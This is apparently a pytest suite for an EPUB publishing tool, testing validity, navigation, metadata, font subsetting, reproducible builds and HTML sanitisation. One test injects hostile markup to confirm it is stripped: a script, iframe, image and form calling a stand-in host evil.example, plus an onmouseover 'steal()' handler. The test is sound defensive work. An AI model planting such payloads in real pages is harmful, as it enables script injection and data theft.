"""The EPUB files themselves: valid under EPUBCheck 5.3, navigable, described, reproducible."""

from __future__ import annotations

import hashlib
import os
import re
import shutil
from pathlib import Path
from urllib.parse import unquote

import pytest
from lxml import etree

from pubkit.checks.epubcheck import run_epubcheck, unavailable_reason

from conftest import FIXTURES, MINIMAL_MANIFEST, ROOT, build_in, copy_samples, copy_warnings_book, epub_files, png_bytes

NS = {"x": "http://www.w3.org/1999/xhtml", "epub": "http://www.idpf.org/2007/ops",
      "opf": "http://www.idpf.org/2007/opf", "dc": "http://purl.org/dc/elements/1.1/"}
EPUB_TYPE = "{http://www.idpf.org/2007/ops}type"


def build(root: Path, *args: str) -> int:
    return build_in(root, "--format", "epub", *args)


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    """The sample books, the issue's manifest (stub texts), two variants, and a book full of
    warning-level mistakes (which must build, and stay valid), built once."""
    root = tmp_path_factory.mktemp("books")
    copy_samples(root / "books")
    shutil.copytree(FIXTURES / "lenin-and-trotsky/books", root / "books", dirs_exist_ok=True)
    copy_warnings_book(root)
    (root / "books/images").mkdir()
    (root / "books/images/cover.png").write_bytes(png_bytes(16, 24))
    manifest = (root / "books/lenin-and-trotsky.yaml").read_text()
    (root / "books/with-cover.yaml").write_text(manifest.replace("theme: classic", "theme: classic\ncover: images/cover.png"))
    (root / "books/footnotes.yaml").write_text(manifest + "epub: {notes: footnotes}\n")
    # the least a manifest can be: no front or back matter (so no contents page), a note that is an image
    (root / "books/minimal.yaml").write_text(MINIMAL_MANIFEST.replace("texts/one.md", "texts/minimal/one.md"))
    (root / "books/texts/minimal").mkdir()
    (root / "books/texts/minimal/one.md").write_text("# One\n\nA facsimile.[^1]\n\n[^1]: ![The leaflet's first page](leaf.png)\n")
    (root / "books/texts/minimal/leaf.png").write_bytes(png_bytes(16, 24))
    assert build(root) == 0
    return {p.stem: p for p in (root / "build").glob("*/*.epub")}


BOOKS = ["the-apparatus", "dispatches", "la-comision", "pisma", "lenin-and-trotsky", "with-cover", "footnotes", "warnings",
         "minimal"]


def test_every_book_was_built(built):
    assert set(built) == set(BOOKS)


@pytest.mark.parametrize("name", BOOKS)
def test_epubcheck_reports_nothing(built, name):
    reason = unavailable_reason()
    if reason:
        if os.environ.get("PUBKIT_REQUIRE_CHECKS"):
            pytest.fail(f"EPUBCheck must run here: {reason}")
        pytest.skip(f"EPUBCheck cannot run: {reason}")
    problems, report = run_epubcheck(built[name])
    assert report["checker"]["checkerVersion"].startswith("5.3"), report["checker"]
    assert [str(p) for p in problems] == []
    assert report["checker"]["nError"] == 0 and report["checker"]["nWarning"] == 0 and report["checker"]["nFatal"] == 0


def documents(path: Path) -> dict[str, etree._Element]:
    files = epub_files(path)
    return {name.removeprefix("EPUB/"): etree.fromstring(data) for name, data in files.items() if name.endswith(".xhtml")}


def opf(path: Path) -> etree._Element:
    return etree.fromstring(epub_files(path)["EPUB/content.opf"])


def test_container_layout(built):
    import zipfile

    with zipfile.ZipFile(built["the-apparatus"]) as archive:
        first = archive.infolist()[0]
        assert (first.filename, first.compress_type, first.extra) == ("mimetype", zipfile.ZIP_STORED, b"")
        assert archive.read("mimetype") == b"application/epub+zip"
        names = archive.namelist()[1:]
        assert names == sorted(names)
        assert {i.date_time for i in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}


def test_nav_has_one_toc_two_levels_and_landmarks(built):
    nav = documents(built["lenin-and-trotsky"])["nav.xhtml"]
    tocs = nav.xpath("//x:nav[@epub:type='toc']", namespaces=NS)
    assert len(tocs) == 1
    top = tocs[0].xpath("x:ol/x:li", namespaces=NS)
    assert [li.xpath("string(x:a)", namespaces=NS) for li in top] == [
        "Preface", "The Early Years", "The Struggle Against Bureaucracy", "Chronology", "Notes", "Glossary", "About the Authors"]
    assert [a.text for a in top[1].xpath("x:ol/x:li/x:a", namespaces=NS)] == ["Beginnings", "Exile", "October"]
    landmarks = nav.xpath("//x:nav[@epub:type='landmarks']//x:a", namespaces=NS)
    assert {a.get(EPUB_TYPE): a.get("href") for a in landmarks} == {
        "cover": "cover.xhtml", "titlepage": "titlepage.xhtml", "toc": "#toc", "bodymatter": "part-1.xhtml",
        "endnotes": "notes.xhtml",
        "glossary": "glossary.xhtml"}


def test_every_link_in_every_document_resolves(built):
    for name, path in built.items():
        docs = documents(path)
        ids = {href: set(doc.xpath("//@id")) for href, doc in docs.items()}
        for href, doc in docs.items():
            for link in doc.xpath("//x:a/@href", namespaces=NS):
                if link.startswith(("http:", "https:", "mailto:")):
                    continue
                file, _, anchor = unquote(link).partition("#")
                target = file or href
                assert target in ids, f"{name}/{href}: {link}"
                assert not anchor or anchor in ids[target], f"{name}/{href}: {link}"


@pytest.mark.parametrize("name, where", [("lenin-and-trotsky", "endnotes"), ("footnotes", "footnotes")])
def test_notes_and_backlinks_pair_up(built, name, where):
    docs = documents(built[name])
    refs = {(href, a.get("id")): a.get("href") for href, doc in docs.items()
            for a in doc.xpath("//x:a[@epub:type='noteref']", namespaces=NS)}
    assert len(refs) == 3  # the preface and two chapters that both label their note [^1]
    for (href, ref_id), target in refs.items():
        file, _, note_id = target.partition("#")
        note_doc = docs[file or href]
        note = note_doc.xpath(f"//*[@id='{note_id}']")[0]
        backlink = note.xpath(".//x:a[@role='doc-backlink']/@href", namespaces=NS)[0]
        back_file, _, back_id = backlink.partition("#")
        assert (back_file or (file or href), back_id) == (href, ref_id)
        if where == "endnotes":
            assert file == "notes.xhtml" and note.get(EPUB_TYPE) == "endnote"
        else:
            assert file == "" and note.tag == "{http://www.w3.org/1999/xhtml}aside" and note.get(EPUB_TYPE) == "footnote"


def test_every_section_carries_its_semantics(built):
    docs = documents(built["lenin-and-trotsky"])
    expected = {"part-1.xhtml": ("part", "doc-part"), "october.xhtml": ("chapter", "doc-chapter"),
                "preface.xhtml": ("preface", "doc-preface"), "copyright.xhtml": ("copyright-page", None),
                "notes.xhtml": ("endnotes", "doc-endnotes"), "appendix-chronology.xhtml": ("appendix", "doc-appendix")}
    for href, (epub_type, role) in expected.items():
        section = docs[href].xpath("//x:section", namespaces=NS)[0]
        assert (section.get(EPUB_TYPE), section.get("role")) == (epub_type, role), href


def test_package_metadata(built):
    package = opf(built["lenin-and-trotsky"])
    meta = package.find("opf:metadata", NS)
    assert package.get("{http://www.w3.org/XML/1998/namespace}lang") == "en"
    identifier = meta.xpath(f"dc:identifier[@id='{package.get('unique-identifier')}']", namespaces=NS)[0]
    assert identifier.text == "urn:isbn:9780306406157"
    assert [t.text for t in meta.findall("dc:title", NS)] == ["Lenin and Trotsky", "What They Really Stood For"]
    assert [m.text for m in meta.xpath("opf:meta[@property='dcterms:modified']", namespaces=NS)] == ["2019-07-12T00:00:00Z"]
    creators = meta.findall("dc:creator", NS)
    assert [c.text for c in creators] == ["Alan Woods", "Ted Grant"]
    assert len({c.get("id") for c in creators}) == 2
    refines = {(m.get("refines"), m.get("property")): m.text for m in meta.findall("opf:meta", NS) if m.get("refines")}
    assert refines[("#creator-1", "role")] == "aut" and refines[("#creator-1", "file-as")] == "Woods, Alan"
    assert [s.text for s in meta.findall("dc:subject", NS)] == ["History", "Russian Revolution"]
    assert meta.findtext("dc:publisher", namespaces=NS) == "Wellred Books"
    assert meta.findtext("dc:rights", namespaces=NS) == "Copyright © 2019 Wellred Books"
    a11y = {}
    for m in meta.findall("opf:meta", NS):
        if (m.get("property") or "").startswith("schema:"):
            a11y.setdefault(m.get("property"), []).append(m.text)
    assert a11y["schema:accessMode"] == ["textual", "visual"]  # the cover is an image
    assert a11y["schema:accessModeSufficient"] == ["textual"]
    assert set(a11y["schema:accessibilityFeature"]) >= {"structuralNavigation", "tableOfContents", "readingOrder", "annotations"}
    assert a11y["schema:accessibilityHazard"] == ["none"]
    assert a11y["schema:accessibilitySummary"][0].startswith("This publication has a navigable table of contents")
    assert not meta.xpath("opf:meta[@property='dcterms:conformsTo']", namespaces=NS)  # never claimed by default


def test_cover_image_and_page(built):
    package = opf(built["with-cover"])
    items = {i.get("href"): i for i in package.iter("{%s}item" % NS["opf"])}
    assert items["images/cover.png"].get("properties") == "cover-image"
    spine = [i.get("idref") for i in package.iter("{%s}itemref" % NS["opf"])]
    assert spine[0] == "cover"
    visual = package.xpath("//opf:meta[@property='schema:accessMode']/text()", namespaces=NS)
    assert visual == ["textual", "visual"]


def test_fonts_are_subset_and_declared(built):
    files = epub_files(built["the-apparatus"])
    original = (ROOT / "themes/classic/fonts/CharisSIL-Regular.ttf").stat().st_size
    assert 0 < len(files["EPUB/fonts/CharisSIL-Regular.ttf"]) < original / 4
    items = {i.get("href"): i.get("media-type") for i in opf(built["the-apparatus"]).iter("{%s}item" % NS["opf"])}
    assert items["fonts/CharisSIL-Regular.ttf"] == "font/ttf"
    assert b'font-family: "Charis SIL"' in files["EPUB/css/fonts.css"]


@pytest.mark.parametrize("font, text", [
    ("CharisSIL-Regular.ttf", "A fine office, WAVE and Tavern: first affinity."),  # ligatures, kerning
    ("NotoNaskhArabic-Regular.ttf", "العدد الأول كانت المطبعة تعمل"),  # joining forms, marks
    ("NotoSerifDevanagari-Regular.ttf", "पहली सर्दी में मज़दूरिनों ने निश्चय किया"),  # conjuncts, vowel signs
])
def test_a_subset_font_shapes_text_as_the_whole_font_does(font, text):
    """The subset a reader gets keeps every OpenType feature: shaped by HarfBuzz, the text gets as
    many glyphs, for the same characters, at the same advances and offsets as with the whole font
    (a lost ligature, kerning pair or joining form changes them; glyph names are not kept)."""
    import uharfbuzz as hb

    from pubkit.fonts import subset_font

    path = ROOT / "themes/classic/fonts" / font
    shaped = []
    for data in (path.read_bytes(), subset_font(path, frozenset(text))):
        hb_font = hb.Font(hb.Face(hb.Blob(data)))
        buffer = hb.Buffer()
        buffer.add_str(text)
        buffer.guess_segment_properties()
        hb.shape(hb_font, buffer)
        shaped.append([(i.cluster, p.x_advance, p.x_offset, p.y_offset)
                       for i, p in zip(buffer.glyph_infos, buffer.glyph_positions)])
    assert shaped[0] == shaped[1]


def test_the_characters_a_page_shows_include_its_placeholders():
    """A search box's placeholder is drawn in the page's font: its characters go into the subset."""
    from pubkit.fonts import characters

    assert {"搜", "索", "x"} <= characters(['<body><input placeholder="搜索" alt="x"/></body>'])


def test_same_inputs_give_the_same_bytes(tmp_path, monkeypatch):
    digests = []
    for run in range(2):
        root = tmp_path / f"run{run}"
        copy_samples(root / "books")
        for text in (root / "books").rglob("*.md"):
            os.utime(text, (1_000_000 * (run + 1), 1_000_000 * (run + 1)))  # file times must not leak in
        assert build(root, "books/the-apparatus.yaml") == 0
        digests.append(hashlib.sha256((root / "build/the-apparatus/the-apparatus.epub").read_bytes()).hexdigest())
    assert digests[0] == digests[1]


def test_source_date_epoch_sets_the_modified_date(tmp_path, monkeypatch):
    copy_samples(tmp_path / "books")
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")
    assert build(tmp_path, "books/dispatches.yaml") == 0
    modified = opf(tmp_path / "build/dispatches/dispatches.epub").xpath(
        "//opf:meta[@property='dcterms:modified']/text()", namespaces=NS)
    assert modified == ["2023-11-14T22:13:20Z"]


def test_a_failed_build_leaves_the_previous_epub_intact(tmp_path, capsys):
    copy_samples(tmp_path / "books")
    assert build(tmp_path, "books/dispatches.yaml") == 0
    epub = tmp_path / "build/dispatches/dispatches.epub"
    before = epub.read_bytes()
    text = tmp_path / "books/texts/dispatches/01-the-price-of-bread.md"
    text.write_text(text.read_text() + "\nA broken reference.[^nowhere]\n")
    assert build(tmp_path, "books/dispatches.yaml") == 1
    assert epub.read_bytes() == before
    assert sorted(p.name for p in epub.parent.iterdir()) == ["dispatches-cover.jpg", "dispatches.epub"]  # no temporary files
    assert "Traceback" not in capsys.readouterr().err


def test_raw_html_never_reaches_the_epub(tmp_path):
    copy_samples(tmp_path / "books")
    text = tmp_path / "books/texts/dispatches/01-the-price-of-bread.md"
    text.write_text(text.read_text() + '\n<script src="https://evil.example/x.js">steal()</script>\n\n'
                    '<img src="https://evil.example/p.png"> and <iframe src="https://evil.example/"></iframe>'
                    '<b onmouseover="steal()">bold</b> <form action="https://evil.example/"><input name=x></form>\n')
    assert build(tmp_path, "books/dispatches.yaml") == 0
    files = epub_files(tmp_path / "build/dispatches/dispatches.epub")
    xhtml = files["EPUB/the-price-of-bread.xhtml"]
    for made_of in (b"script", b"steal", b"evil.example", b"iframe", b"onmouseover", b"<form", b"<input", b"<img"):
        assert made_of not in xhtml, made_of
    assert b"<b>bold</b>" in xhtml


def test_the_french_article_is_marked_french(built):
    doc = documents(built["dispatches"])["lettre-de-paris.xhtml"]
    section = doc.xpath("//x:section", namespaces=NS)[0]
    assert section.get("lang") == "fr" and section.get("{http://www.w3.org/XML/1998/namespace}lang") == "fr"


def test_an_anthology_without_authors_is_filed_under_its_editor(built):
    meta = opf(built["dispatches"]).find("opf:metadata", NS)
    [creator] = meta.findall("dc:creator", NS)
    assert creator.text == "Ines Okafor" and not meta.findall("dc:contributor", NS)
    refines = {m.get("property"): m.text for m in meta.findall("opf:meta", NS) if m.get("refines") == f"#{creator.get('id')}"}
    assert refines["role"] == "edt"


def test_what_the_warnings_book_warned_about_is_mended_in_the_epub(built):
    docs = {name: data.decode() for name, data in epub_files(built["warnings"]).items() if name.endswith(".xhtml")}
    links, markup = docs["EPUB/links.xhtml"], docs["EPUB/markup.xhtml"]
    assert '<a href="markup.xhtml">a paragraph that was never anchored</a>' in links  # repointed to the text
    assert "a heading in this text that does not exist" in links and 'href="#links--nowhere"' not in links
    assert '<a href="markup.xhtml#markup--p6">an anchor that does exist</a>' in links
    assert '<a id="markup--p6"></a>A paragraph anchored' in markup and markup.count('id="markup--p6"') == 1
    assert "steal" not in markup and "<font" not in markup and "<div class=\"sidebar\"" not in markup
    tables = re.findall(r"<table.*?</table>", markup, re.S)
    assert "<th" not in tables[0] and '<th scope="col">Year</th>' in tables[1]
